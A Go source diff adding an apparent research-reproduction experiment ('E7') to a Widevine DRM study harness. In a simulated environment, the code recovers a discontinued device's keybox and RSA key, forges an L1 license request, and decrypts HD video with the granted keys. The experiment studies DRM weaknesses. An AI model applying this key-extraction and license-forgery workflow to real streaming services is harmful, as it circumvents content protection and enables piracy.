@@ -1,0 +1,126 @@
+package wideleak
+
+import (
+	"encoding/json"
+	"fmt"
+
+	"repro/internal/attack"
+	"repro/internal/cdm"
+	"repro/internal/dash"
+	"repro/internal/monitor"
+	"repro/internal/netsim"
+	"repro/internal/oemcrypto"
+	"repro/internal/ott"
+	"repro/internal/wvcrypto"
+)
+
+// ForgeryResult reports the §V-C future-work experiment (E7): HD keys
+// obtained from an L3-broken device by forging the security level in a
+// self-signed license request.
+type ForgeryResult struct {
+	App string
+	// HDKeysGranted is true when the forged "L1" request yielded keys the
+	// genuine L3 device was refused.
+	HDKeysGranted bool
+	// MaxHeight is the best video quality decryptable with the forged
+	// keys (1080 when the forgery works).
+	MaxHeight uint16
+	// Keys counts the granted content keys.
+	Keys int
+
+	FailureReason string
+}
+
+// RunHDForgery runs E7 against one app: recover the §IV-D material on the
+// Nexus 5, then forge a license request claiming L1 and a current CDM, and
+// verify the HD representations decrypt with the granted keys.
+func (s *Study) RunHDForgery(app string) (*ForgeryResult, error) {
+	f, err := s.World.Fixture(app)
+	if err != nil {
+		return nil, err
+	}
+	res := &ForgeryResult{App: app}
+
+	// Prerequisites: the §IV-D recovery on the discontinued device.
+	mon := monitor.New()
+	mon.AttachCDM(f.Nexus5Device.Engine)
+	defer mon.Detach()
+	tap := mon.InterceptNetwork(f.Nexus5App.NetworkClient())
+	report := f.Nexus5App.Play(ContentID)
+	if report.ProvisionDenied {
+		res.FailureReason = "device revoked; no RSA key was ever provisioned"
+		return res, nil
+	}
+	if report.UsedEmbeddedCDM {
+		res.FailureReason = "embedded CDM out of reach"
+		return res, nil
+	}
+	handle, err := mon.AttachProcess(f.Nexus5Device.DRMProcess)
+	if err != nil {
+		return nil, err
+	}
+	kb, err := attack.RecoverKeybox(handle)
+	if err != nil {
+		res.FailureReason = err.Error()
+		return res, nil
+	}
+	rsaKey, err := attack.RecoverDeviceRSAKey(kb, f.Nexus5Device.Storage)
+	if err != nil {
+		res.FailureReason = err.Error()
+		return res, nil
+	}
+
+	// The forged exchange: claim L1 + a current CDM version.
+	attacker := s.World.AttackerClient()
+	profile := f.Profile
+	send := func(signed *cdm.SignedLicenseRequest) (*cdm.LicenseResponse, error) {
+		body, err := json.Marshal(signed)
+		if err != nil {
+			return nil, err
+		}
+		resp, err := attacker.Do(netsim.Request{Host: profile.LicenseHost(), Path: ott.PathLicense, Body: body})
+		if err != nil {
+			return nil, err
+		}
+		if resp.Status != 200 {
+			return nil, fmt.Errorf("license endpoint status %d: %s", resp.Status, resp.Body)
+		}
+		var lr cdm.LicenseResponse
+		if err := json.Unmarshal(resp.Body, &lr); err != nil {
+			return nil, err
+		}
+		return &lr, nil
+	}
+	forged, err := attack.ForgeLicenseExchange(kb, rsaKey, ContentID,
+		oemcrypto.L1.String(), "15.0", wvcrypto.NewDeterministicReader("forge-"+app), send)
+	if err != nil {
+		res.FailureReason = err.Error()
+		return res, nil
+	}
+	res.Keys = len(forged.Keys)
+
+	// Verify: decrypt the HD rungs with the forged grant.
+	mpd, cdnHost := recoverManifest(tap.Exchanges(), monL3Dumps(mon.Events()))
+	if mpd == nil || cdnHost == "" {
+		res.FailureReason = "could not recover manifest URIs"
+		return res, nil
+	}
+	videoSet, err := mpd.FindAdaptationSet(dash.ContentVideo, "")
+	if err != nil {
+		res.FailureReason = err.Error()
+		return res, nil
+	}
+	for _, rep := range videoSet.Representations {
+		if _, err := ripRepresentation(attacker, cdnHost, &rep, forged.Keys); err != nil {
+			continue
+		}
+		if rep.Height > res.MaxHeight {
+			res.MaxHeight = rep.Height
+		}
+	}
+	res.HDKeysGranted = res.MaxHeight > ott.L3ResolutionCap
+	if !res.HDKeysGranted {
+		res.FailureReason = "forged request did not unlock HD"
+	}
+	return res, nil
+}
